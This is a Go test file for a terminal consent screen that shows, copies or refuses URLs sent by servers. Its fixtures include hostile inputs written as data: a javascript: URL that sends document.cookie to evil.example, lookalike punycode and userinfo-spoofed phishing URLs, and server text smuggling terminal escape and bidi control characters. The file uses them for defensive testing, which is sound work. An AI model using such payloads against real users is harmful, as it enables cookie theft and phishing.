package consent

import (
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/google/go-cmp/cmp"

	"github.com/elicitty/elicitty/elicit"
	"github.com/elicitty/elicitty/elicit/urlsafe"
	"github.com/elicitty/elicitty/internal/testkit"
)

func urlReq(server, msg, url string) *elicit.Request {
	return &elicit.Request{Server: server, Mode: elicit.ModeURL, Message: msg, URL: url,
		ElicitationID: "lnk-7", Protocol: "2025-11-25"}
}

func TestModelGoldens(t *testing.T) {
	tests := []struct {
		name   string
		req    *elicit.Request
		policy urlsafe.Policy
		opts   Options
		keys   []string
	}{
		{"https", urlReq("demo", "Link your calendar so I can book the meeting.",
			"https://auth.example.com/link?s=abc"), urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
		{"punycode", urlReq("shop", "Sign in to pay.", "https://xn--pple-43d.com/signin?next=%2Fpay"),
			urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
		{"userinfo", urlReq("shop", "Confirm at your bank.", "https://www.mybank.example@login.evil.example:8443/confirm"),
			urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
		{"javascript", urlReq("evil", "Click to continue.", "javascript:fetch('//evil.example/?c='+document.cookie)"),
			urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
		{"copy-only", urlReq("demo", "Approve access.", "https://auth.example.com/link?s=abc"),
			urlsafe.Policy{}, Options{OpenAllowed: false}, nil},
		{"long-wrapped", urlReq("demo", "Authorize.", "https://accounts.example.co.uk/o/oauth2/v2/auth?client_id=1234567890-abcdefghijklmnop.apps.example&redirect_uri=http%3A%2F%2F127.0.0.1%3A33418%2Fcallback&response_type=code&scope=openid%20email&state=Zm9vYmFyYmF6"),
			urlsafe.Policy{}, Options{OpenAllowed: true, Width: 60}, nil},
		{"qr", urlReq("demo", "Scan it on your phone.", "https://ex.am/p"),
			urlsafe.Policy{}, Options{OpenAllowed: true}, []string{"r"}},
		{"refused-host", urlReq("demo", "Approve.", "https://evil.example/approve"),
			urlsafe.Policy{AllowedHosts: []string{"*.example.com"}}, Options{OpenAllowed: true}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.opts.NoColor = tt.name != "https" // one coloured run proves Strip removes styles only
			m := New(tt.req, urlsafe.Analyze(tt.req.URL, tt.policy), tt.opts)
			if tt.opts.Width == 0 {
				m.SetSize(80, 24)
			}
			for _, k := range tt.keys {
				m.Update(testkit.Key(k))
			}
			if _, done := m.Done(); done {
				t.Fatalf("done after %v; the screen must wait for a choice", tt.keys)
			}
			testkit.Golden(t, tt.name, ansi.Strip(m.View()))
		})
	}
}

func TestModelChoices(t *testing.T) {
	https := "https://auth.example.com/link?s=abc"
	tests := []struct {
		name     string
		url      string
		open     bool
		keys     []string
		want     Choice
		wantDone bool
	}{
		{"o opens", https, true, []string{"o"}, Open, true},
		{"enter on default focus opens a clean URL", https, true, []string{"<enter>"}, Open, true},
		{"enter on default focus declines a warned URL", "https://xn--pple-43d.com/", true, []string{"<enter>"}, Decline, true},
		{"c copies", https, true, []string{"c"}, CopyOnly, true},
		{"d declines", https, true, []string{"d"}, Decline, true},
		{"esc cancels", https, true, []string{"<esc>"}, Cancel, true},
		{"down then enter copies", https, true, []string{"<down>", "<enter>"}, CopyOnly, true},
		{"up wraps to cancel", https, true, []string{"<up>", "<enter>"}, Cancel, true},
		{"qr is not a choice", https, true, []string{"r", "r"}, 0, false},
		{"copy-only ignores o", https, false, []string{"o"}, 0, false},
		{"refused ignores o and c", "javascript:alert(1)", true, []string{"o", "c", "r"}, 0, false},
		{"refused declines", "javascript:alert(1)", true, []string{"d"}, Decline, true},
		{"refused enter declines", "http://example.com/", true, []string{"<enter>"}, Decline, true},
		{"keys after done are ignored", https, true, []string{"d", "o"}, Decline, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := urlReq("demo", "m", tt.url)
			m := New(req, urlsafe.Analyze(tt.url, urlsafe.Policy{}), Options{OpenAllowed: tt.open})
			var msgs []tea.Msg
			for _, k := range tt.keys {
				cmd := m.Update(testkit.Key(k))
				msgs = append(msgs, run(cmd)...)
			}
			got, done := m.Done()
			if got != tt.want || done != tt.wantDone {
				t.Fatalf("Done() = %v, %v; want %v, %v", got, done, tt.want, tt.wantDone)
			}
			var dones []DoneMsg
			for _, msg := range msgs {
				if d, ok := msg.(DoneMsg); ok {
					dones = append(dones, d)
				}
			}
			if !tt.wantDone {
				if len(dones) != 0 {
					t.Fatalf("DoneMsg sent without a choice: %v", dones)
				}
				return
			}
			want := []DoneMsg{{Choice: tt.want}}
			if tt.want == Open || tt.want == CopyOnly {
				want[0].URL = tt.url
			}
			if diff := cmp.Diff(want, dones); diff != "" {
				t.Errorf("DoneMsg (-want +got):\n%s", diff)
			}
		})
	}
}

// run executes a command tree and returns its messages (batches flattened).
func run(cmd tea.Cmd) []tea.Msg {
	if cmd == nil {
		return nil
	}
	msg := cmd()
	if b, ok := msg.(tea.BatchMsg); ok {
		var out []tea.Msg
		for _, c := range b {
			out = append(out, run(c)...)
		}
		return out
	}
	return []tea.Msg{msg}
}

func TestModelCopyRequestsClipboard(t *testing.T) {
	u := "https://auth.example.com/link?s=abc"
	m := New(urlReq("demo", "m", u), urlsafe.Analyze(u, urlsafe.Policy{}), Options{OpenAllowed: true})
	cmd := m.Update(testkit.Key("c"))
	msgs := run(cmd)
	if len(msgs) != 2 {
		t.Fatalf("copy produced %d messages, want clipboard + done: %#v", len(msgs), msgs)
	}
}

func TestModelViewShowsFullURLAtEveryWidth(t *testing.T) {
	u := "https://login.example.com/authorize?" + strings.Repeat("x=1&", 80) + "end"
	a := urlsafe.Analyze(u, urlsafe.Policy{})
	for _, w := range []int{20, 40, 80, 200} {
		// Tall enough that nothing scrolls (TestModelSmallScreenScrolls scrolls).
		m := New(urlReq("demo", "m", u), a, Options{Width: w, Height: 400, NoColor: true, OpenAllowed: true})
		v := m.View()
		var joined strings.Builder
		in := false
		for _, l := range strings.Split(v, "\n") {
			switch {
			case strings.HasPrefix(l, "Link (shown in full):"):
				in = true
			case in && strings.HasPrefix(l, "  "):
				joined.WriteString(strings.TrimPrefix(l, "  "))
			case in:
				in = false
			}
		}
		if joined.String() != u {
			t.Errorf("width %d: URL lines join to %q, want the full URL", w, joined.String())
		}
	}
}

func TestModelSanitizesServerText(t *testing.T) {
	u := "https://auth.example.com/"
	req := urlReq("de\x1b[31mmo", "Click \x1b]8;;https://evil.example/\x07here\x1b]8;;\x07 \u202Eplease", u)
	m := New(req, urlsafe.Analyze(u, urlsafe.Policy{}), Options{NoColor: true, OpenAllowed: true})
	v := m.View()
	if strings.ContainsRune(v, '\x1b') || strings.ContainsRune(v, '\u202E') {
		t.Errorf("view contains raw escape or bidi control:\n%q", v)
	}
}

// TestModelSmallScreenKeepsLinkAndChoices draws a long link at 60x11 (the consent area
// of a 60x15 terminal): the screen never grows past its height, and the whole URL and
// every choice are in view at once.
func TestModelSmallScreenKeepsLinkAndChoices(t *testing.T) {
	u := "https://login.example.com/authorize?" + strings.Repeat("x=1&", 40) + "end"
	a := urlsafe.Analyze(u, urlsafe.Policy{})
	m := New(urlReq("demo", "Link your account: approve the request on the consent page", u), a,
		Options{Width: 60, Height: 11, NoColor: true, OpenAllowed: true})
	v := m.View()
	if n := len(strings.Split(v, "\n")); n > 11 {
		t.Fatalf("view is %d lines tall, want at most 11:\n%s", n, v)
	}
	for _, want := range []string{"Open in browser", "Copy", "Decline", "Cancel"} {
		if !strings.Contains(v, want) {
			t.Errorf("view lacks %q:\n%s", want, v)
		}
	}
	var joined strings.Builder
	for _, l := range renderURL(a, 58, urlStyles{}) {
		if !strings.Contains(v, strings.TrimSpace(l)) {
			t.Errorf("URL line %q not shown", l)
		}
		joined.WriteString(l)
	}
	if joined.String() != u {
		t.Errorf("URL lines join to %q, want %q", joined.String(), u)
	}
}

// TestModelSmallScreenQR: a QR code that does not fit 60x11 says so in full, wrapped,
// with the choices still in view.
func TestModelSmallScreenQR(t *testing.T) {
	u := "https://auth.example.com/link?s=abc"
	m := New(urlReq("demo", "m", u), urlsafe.Analyze(u, urlsafe.Policy{}), Options{Width: 60, Height: 11, NoColor: true, OpenAllowed: true})
	m.Update(testkit.Key("r"))
	v := m.View()
	joined := strings.Join(strings.Fields(v), " ")
	if !strings.Contains(joined, "The window is too small for the QR code (it needs") || !strings.Contains(v, "Hide QR code") {
		t.Fatalf("QR screen at 60x11:\n%s", v)
	}
	for _, l := range strings.Split(v, "\n") {
		if w := ansi.StringWidth(l); w > 60 {
			t.Errorf("line of %d cells: %q", w, l)
		}
	}
}
